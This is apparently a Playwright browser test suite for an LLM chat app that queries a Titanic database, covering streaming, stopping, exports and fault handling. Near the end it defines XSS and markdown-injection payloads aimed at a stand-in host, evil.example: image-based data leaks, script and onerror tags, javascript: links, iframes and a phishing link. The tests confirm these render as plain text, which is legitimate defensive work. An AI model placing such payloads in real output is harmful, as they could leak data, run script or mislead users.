"""The chat in a real browser: asking, watching, stopping, coming back, taking away, attacks on the page."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from llm_agent.conversations import Conversations
from llm_agent.query_result import QueryResult
from llm_agent.turn_record import QueryRecord, TurnRecord
from tests.browser import IDLE, WatchedPage, running_app
from tests.llm_faults import FAULTS, GOES_WELL, SILENT, TOOL_FAULTS, retry_later, slow
from tests.llm_server import LlmServer, Reply, text, tool_call

pytestmark = pytest.mark.timeout(180)
INPUT, STOP, EXCEPTION = '[data-testid="stChatInputTextArea"]', ".st-key-stop button", "stException"
BY_SEX = "SELECT sex, COUNT(*) AS n, SUM(survived) AS survived FROM titanic GROUP BY sex"
LIMIT_MS = 30_000
LONG_ANSWER = "Of the 314 women 233 survived. " * 40


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the apps of this module keep their Prefect and their chats."""
    return tmp_path_factory.mktemp("chat")


@pytest.fixture(scope="module")
def kept(home: Path) -> Conversations:
    """The conversations of the apps."""
    return Conversations(home / "chats.sqlite")


@pytest.fixture(scope="module")
def llm() -> Iterator[LlmServer]:
    """An LLM server; each test gives it its script."""
    with LlmServer() as server:
        yield server


@pytest.fixture(scope="module")
def app(home: Path, kept: Conversations, titanic_table: Path) -> Iterator[str]:
    """The chat's address in an app without any key: the demo model answers."""
    environment = {
        "TITANIC_DB": str(titanic_table),
        "PREFECT_HOME": str(home / "prefect"),
        "CHAT_DB": str(home / "chats.sqlite"),
        "OPENAI_API_KEY": "",
        "OPENAI_BASE_URL": "",
    }
    with running_app(environment) as address:
        yield f"{address}/chat"


@pytest.fixture
def watched(app: str, open_page: Callable[..., WatchedPage]) -> Iterator[WatchedPage]:
    """A new tab on the chat; it must not have complained, and shows no exception."""
    watched = open_page()
    visit(watched.page, app)
    yield watched
    page = watched.page
    assert page.get_by_test_id(EXCEPTION).count() == 0
    assert "Traceback" not in page.inner_text("body")
    assert [each for each in watched.complaints if "/_stcore/" not in each] == []


@pytest.fixture
def page(watched: WatchedPage) -> Page:
    """The tab, the demo model answering."""
    return watched.page


@pytest.fixture
def connected(page: Page, llm: LlmServer) -> Page:
    """The tab, the scripted server answering, connected through the panel as a person does."""
    llm.script = [text("Hello.")]
    llm.requests.clear()
    page.click(".st-key-connection-popover button")
    page.fill(".st-key-connection-url input", llm.base_url)
    page.press(".st-key-connection-url input", "Enter")
    settle(page)
    page.click(".st-key-use-connection button")
    expect(page.locator(".st-key-reset-connection button")).to_be_visible(timeout=LIMIT_MS)
    settle(page)
    page.keyboard.press("Escape")
    return page


def visit(page: Page, address: str) -> None:
    """Go there and wait until the page stands."""
    page.goto(address)
    page.wait_for_selector(INPUT, timeout=LIMIT_MS)
    settle(page)


def settle(page: Page) -> None:
    """Wait until the script has run to its end."""
    page.wait_for_selector(IDLE, timeout=LIMIT_MS)


def send(page: Page, question: str) -> None:
    """Type a question and press Enter."""
    page.fill(INPUT, question)
    page.press(INPUT, "Enter")


def ask(page: Page, question: str, number: int = 1) -> None:
    """Ask, and wait for the end of the answer, which is the turn of this number."""
    send(page, question)
    answered(page, number)


def answered(page: Page, number: int = 1) -> None:
    """Wait until this turn has ended and is drawn."""
    page.wait_for_selector(f".st-key-how-{number}", timeout=LIMIT_MS)
    settle(page)


def answer(page: Page) -> str:
    """The text of the latest answer."""
    return page.locator(".answer:not(.typed)").last.inner_text()


def counted(after: Reply) -> list[Reply]:
    """A script: first the query by sex, then this."""
    return [tool_call("run_sql", sql=BY_SEX, purpose="Survival by sex"), after]


def test_a_suggestion_a_follow_up_and_a_chart(page: Page) -> None:
    """From the first screen with one click to a chart; then a follow-up in the same conversation."""
    expect(page.locator(".st-key-header")).to_contain_text("Demo model")
    page.locator('[class*="st-key-suggestion"] button', has_text="chart").first.click()
    answered(page)
    expect(page.get_by_test_id("stPlotlyChart")).to_have_count(1)
    assert re.search(r"\?chat=[\w-]{22}", page.url)
    ask(page, "and for women?", 2)
    assert "women" in answer(page).lower()
    assert page.get_by_test_id("stChatMessage").count() == 4


def test_a_figure_leads_to_its_query(page: Page) -> None:
    """The small number behind a figure jumps to the card of that query; the conversation stays open."""
    ask(page, "How many passengers survived?")
    expect(page.locator(".founded").first).to_have_text("342")
    page.locator(".answer sup a").first.click()
    expect(page.locator("#query-1-1")).to_be_in_viewport()
    assert page.url.endswith("#query-1-1")
    assert "chat=" in page.url
    assert "342" in answer(page)


def test_sql_is_edited_and_run_and_the_kind_of_chart_is_switched(page: Page) -> None:
    """Another kind of chart is a click; the SQL can be changed and run, and its result taken as CSV."""
    ask(page, "Show the survival rate by class and sex as a chart.")
    page.locator(".st-key-kind-query-1-1 button").nth(1).click()
    settle(page)
    page.get_by_role("tab", name="SQL").first.click()
    page.get_by_text("Change it and run it yourself").click()
    page.fill(".st-key-sql-query-1-1 textarea", "SELECT '=1+1' AS formula, 7 AS n")
    page.locator(".st-key-sql-query-1-1 textarea").blur()
    settle(page)
    page.click(".st-key-run-query-1-1 button")
    expect(page.get_by_text("the answer above does not rest on this")).to_be_visible(timeout=LIMIT_MS)
    with page.expect_download() as download:
        page.click(".st-key-csv-query-1-1-own button")
    assert download.value.path().read_text("utf-8-sig") == "formula,n\n'=1+1,7\n"


def test_stop_while_the_model_is_silent(connected: Page, llm: LlmServer) -> None:
    """Stop ends a turn whose server says nothing; the next question is answered."""
    llm.script = counted(FAULTS["headers-then-silence"])
    send(connected, "How many?")
    connected.wait_for_selector("text=Reading the result", timeout=LIMIT_MS)
    expect(connected.locator(".st-key-live")).to_contain_text(re.compile(r"\d s"))
    connected.click(STOP)
    connected.wait_for_selector(STOP, state="detached", timeout=4_000)
    expect(connected.get_by_text("Stopped.")).to_be_visible()
    expect(connected.locator(".st-key-card-query-1-1")).to_be_visible()
    llm.script = [text("Here I am.")]
    ask(connected, "And now?", 2)
    assert answer(connected) == "Here I am."


def test_stop_keeps_what_was_said(connected: Page, llm: LlmServer) -> None:
    """Stop in the middle of an answer keeps the part that had come."""
    llm.script = counted(slow(text(LONG_ANSWER), 0.05))
    send(connected, "How many?")
    connected.wait_for_selector("text=233 survived", timeout=LIMIT_MS)
    connected.click(STOP)
    answered(connected)
    assert answer(connected).startswith("Of the 314")
    assert len(answer(connected)) < len(LONG_ANSWER)


def test_reload_and_a_second_tab_in_mid_stream(connected: Page, llm: LlmServer) -> None:
    """A reload goes on where the answer is, another tab sees the same, and leaving the page ends nothing."""
    llm.script = counted(slow(text(LONG_ANSWER), 0.02))
    send(connected, "How many?")
    connected.wait_for_selector("text=233 survived", timeout=LIMIT_MS)
    connected.reload()
    second = connected.context.new_page()
    second.goto(connected.url)
    for tab in (connected, second):
        tab.wait_for_selector(STOP, timeout=LIMIT_MS)
        expect(tab.locator(".answer").last).to_contain_text("233 survived", timeout=LIMIT_MS)
    second.get_by_role("link", name="Charts").click()
    answered(connected)
    assert answer(connected).count("233") == 40
    assert len(llm.requests) == 2


def test_a_tab_sees_what_another_one_asked(page: Page) -> None:
    """Two tabs of one conversation: what is asked in one appears in the other by itself."""
    ask(page, "How many passengers survived?")
    second = page.context.new_page()
    visit(second, page.url)
    ask(page, "and for women?", 2)
    second.wait_for_selector(".st-key-how-2", timeout=LIMIT_MS)


def test_conversations_are_found_exported_and_deleted(page: Page) -> None:
    """Markdown and JSON have queries and answers; a deleted conversation is gone, after a reload too."""
    ask(page, "How many passengers survived?")
    address = page.url
    page.click(".st-key-this-popover button")
    for kind, expected in {"Markdown": "SELECT", "JSON": '"queries"'}.items():
        with page.expect_download() as download:
            page.click(f".st-key-export-{kind} button")
        assert expected in download.value.path().read_text()
    page.get_by_text("Delete it for good").click()
    page.wait_for_selector(".st-key-delete button:not([disabled])")
    page.click(".st-key-delete button")
    page.wait_for_selector('[class*="st-key-suggestion"]', timeout=LIMIT_MS)
    visit(page, address)
    expect(page.get_by_text("There is no such conversation")).to_be_visible()


def test_the_list_and_a_vote(page: Page) -> None:
    """A thumb and a comment become an evaluation question; the list opens an earlier conversation."""
    ask(page, "How many passengers survived?")
    page.locator(".st-key-thumb-1 button").first.click()
    page.fill(".st-key-comment-1 input", "Right.")
    page.press(".st-key-comment-1 input", "Enter")
    settle(page)
    page.click(".st-key-this-popover button")
    with page.expect_download() as download:
        page.get_by_role("button", name="Evaluation questions").click()
    [question] = [json.loads(line) for line in download.value.path().read_text().splitlines()]
    assert (question["vote"], question["comment"], question["rows"]) == ("good", "Right.", [[342]])
    page.keyboard.press("Escape")
    page.click(".st-key-new-chat button")
    page.wait_for_selector('[class*="st-key-suggestion"]', timeout=LIMIT_MS)
    page.click(".st-key-list-popover button")
    page.locator(".st-key-conversations button").first.click()
    answered(page)
    assert "342" in answer(page)


def test_a_rate_limit_counts_down(connected: Page, llm: LlmServer) -> None:
    """While the server asks to wait, the seconds are shown, and then the answer comes by itself."""
    llm.script = [retry_later("3"), text("Here I am.")]
    send(connected, "Hello?")
    connected.wait_for_selector(r"text=/asking again in \d s/", timeout=LIMIT_MS)
    answered(connected)
    assert answer(connected) == "Here I am."


WORDS = re.compile(r"\w{2}")
TOLD = sorted(set(FAULTS) - SILENT - GOES_WELL - TOOL_FAULTS)


@pytest.mark.parametrize("names", [TOLD[::2], TOLD[1::2]], ids=["one half", "the other"])
def test_faults_end_in_a_sentence_and_the_next_question_is_answered(
    connected: Page, llm: LlmServer, names: list[str]
) -> None:
    """Fault after fault in one conversation: each is told with a way on, then an answer comes."""
    for number, name in enumerate(names, start=1):
        llm.script = [FAULTS[name]]
        ask(connected, f"Fault {name}?", number)
        expect(connected.locator(f".st-key-retry-{number}")).to_be_visible()
        expect(connected.get_by_test_id("stChatMessage").last.get_by_test_id("stAlert")).to_be_visible()
    llm.script = [text("Here I am.")]
    ask(connected, "And now?", len(names) + 1)
    assert answer(connected) == "Here I am."


def test_oddities_of_servers_end_in_an_answer(connected: Page, llm: LlmServer) -> None:
    """What only looks odd, and calls that the model gets wrong at first, end in words, not in an error."""
    names = sorted(GOES_WELL | TOOL_FAULTS)
    for number, name in enumerate(names, start=1):
        llm.script = [FAULTS[name], text("It works.")]
        ask(connected, f"Oddity {name}?", number)
        expect(connected.get_by_test_id("stAlert")).to_have_count(0)
        expect(connected.get_by_test_id("stChatMessage").last.locator(".answer")).to_have_text(WORDS)


@pytest.mark.parametrize("name", sorted(SILENT))
def test_a_silent_server_can_be_left(connected: Page, llm: LlmServer, name: str) -> None:
    """Whenever a server falls silent, Stop ends the turn at once, and the next question is answered."""
    llm.script = [FAULTS[name]]
    send(connected, "How many?")
    connected.click(STOP)
    answered(connected)
    expect(connected.get_by_text("Stopped.")).to_be_visible()
    llm.script = [text("Here I am.")]
    ask(connected, "And now?", 2)
    assert answer(connected) == "Here I am."


def test_wrong_key_then_right_key(connected: Page, llm: LlmServer) -> None:
    """A refused key is told with its setting; the right one, typed into the panel, works at once."""
    llm.api_key = "sk-right-12345"
    try:
        ask(connected, "Hello?")
        expect(connected.get_by_text("OPENAI_API_KEY").first).to_be_visible()
        connected.click(".st-key-connection-popover button")
        connected.fill(".st-key-connection-key input", "sk-right-12345")
        connected.press(".st-key-connection-key input", "Enter")
        settle(connected)
        connected.click(".st-key-use-connection button")
        settle(connected)
        connected.keyboard.press("Escape")
        connected.click(".st-key-retry-1 button")
        expect(connected.locator(".answer:not(.typed)").last).to_have_text("Hello.", timeout=LIMIT_MS)
        assert "sk-right" not in connected.content()
        assert "sk-right" not in connected.url
    finally:
        llm.api_key = ""


def test_a_draft_waits_for_the_person(page: Page, app: str) -> None:
    """A link with a question fills the input; only Enter sends it."""
    visit(page, f"{app}?ask=How many passengers survived?")
    expect(page.locator(INPUT)).to_have_value("How many passengers survived?")
    assert page.get_by_test_id("stChatMessage").count() == 0
    page.press(INPUT, "Enter")
    answered(page)
    assert "342" in answer(page)


def test_the_guard_can_be_attacked(page: Page) -> None:
    """In the box a statement goes to the guard, and the refusal is explained."""
    page.click(".st-key-break-it button")
    page.get_by_text("Delete everything").click()
    settle(page)
    page.click(".st-key-attack-run button")
    expect(page.get_by_text("Refused: not allowed, whatever the data.")).to_be_visible(timeout=LIMIT_MS)
    expect(page.get_by_text("DELETE is not allowed")).to_be_visible()


HOSTILE = "\n\n".join(
    (
        "![leak](http://evil.example/leak.png?q=342)",
        "<img src=http://evil.example/x.png onerror=\"document.title='hacked'\">"
        "<script>document.title='hacked'</script>",
        '```mermaid\nflowchart LR\n  a[<img src=http://evil.example/m.png>] --> b\n  click a href "http://evil.example"\n```',
        "[Retry](javascript:document.title='hacked') [here](http://evil.example/phish)",
        ":red[danger] :material/delete: $\\href{http://evil.example}{x}$ :streamlit:",
        '<button class="st-key-stop">Stop</button><style>body{display:none}</style>',
        "| <b>a</b> |\n|---|\n| <iframe src=http://evil.example></iframe> |",
        "w" * 4_000,
        "\u202eevil\u202c",
    )
)


def assert_harmless(page: Page) -> None:
    """Nothing of the hostile text is alive on the page."""
    main = page.get_by_test_id("stMain")
    assert "hacked" not in page.title()
    assert main.locator("script, iframe, svg[id^=mermaid], .katex").count() == 0
    assert main.locator("[src*='evil'], [href*='evil'], [href^='javascript']").count() == 0
    assert main.locator("a[href]:not([href^='#'])").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_hostile_answers_are_only_text(connected: Page, llm: LlmServer) -> None:
    """Whatever a model writes, in its answer, its purposes, its SQL, its chart or its options, is text."""
    llm.script = [
        tool_call("run_sql", sql=f"{BY_SEX} -- {HOSTILE[:150]}", purpose=HOSTILE[:90]),
        tool_call(
            "draw_chart", query=1, kind="bar", x="sex", y="n", title="<a href='http://evil.example'>t</a>"
        ),
        text(HOSTILE, piece=50),
    ]
    ask(connected, HOSTILE)
    assert "http://evil.example/leak.png" in answer(connected)
    connected.click(".st-key-how-1 summary")
    connected.wait_for_selector("text=The messages of this turn", timeout=LIMIT_MS)
    assert_harmless(connected)
    llm.script = [
        tool_call("ask_user", question=HOSTILE, options=[HOSTILE[:90], "![x](http://evil.example/o.png)"])
    ]
    ask(connected, "And now?", 2)
    expect(connected.locator(".st-key-option-1 button")).to_be_visible()
    connected.click(".st-key-list-popover button")
    connected.wait_for_selector(".st-key-conversations button")
    assert_harmless(connected)


def test_hostile_cells_are_only_text(page: Page, app: str, kept: Conversations) -> None:
    """Names of columns and cells that look like markup are drawn as letters, in table and chart."""
    cells = ("<img src=http://evil.example/c.png>", "![x](http://evil.example/c2.png)")
    result = QueryResult((HOSTILE[:60], "n"), ((cells[0], 1), (cells[1], 2), ("=cmd()", None)), False, 0.1)
    chart = {"kind": "bar", "x": HOSTILE[:60], "y": "n", "colour": None, "title": cells[0]}
    query = QueryRecord(1, "SELECT 1", HOSTILE[:90], result, chart=chart)
    record = TurnRecord("Q", HOSTILE[:60], outcome="answered", text=cells[1], queries=[query])
    conversation_id = kept.create(HOSTILE)
    kept.save(conversation_id, 1, record)
    visit(page, f"{app}?chat={conversation_id}")
    answered(page)
    page.get_by_role("tab", name="Table").click()
    page.get_by_test_id("stDataFrame").wait_for()
    page.click(".st-key-how-1 summary")
    page.wait_for_selector("text=The messages of this turn", timeout=LIMIT_MS)
    assert_harmless(page)


def test_keyboard_only(page: Page) -> None:
    """A question is asked, stopped or answered, and a menu opened, without a mouse; controls have names."""
    page.keyboard.type("")
    page.locator(INPUT).focus()
    page.keyboard.type("How many passengers survived?")
    page.keyboard.press("Enter")
    answered(page)
    page.locator(".st-key-new-chat button").focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_role("textbox", name="Search")).to_be_visible()
    page.keyboard.press("Escape")
    nameless = page.evaluate(
        """() => [...document.querySelectorAll('[data-testid=stMain] button')].filter(
            each => !(each.innerText.trim() || each.ariaLabel || each.title)).map(each => each.outerHTML)"""
    )
    assert nameless == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_sees_the_whole_chat(app: str, open_page: Callable[..., WatchedPage], scheme: str) -> None:
    """At 390 pixels, in both themes, first screen and answer stick out nowhere."""
    page = open_page(viewport={"width": 390, "height": 800}, color_scheme=scheme).page
    visit(page, app)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    ask(page, "Show the survival rate by class and sex as a chart.")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator(".answer").last.bounding_box()["width"] <= 390
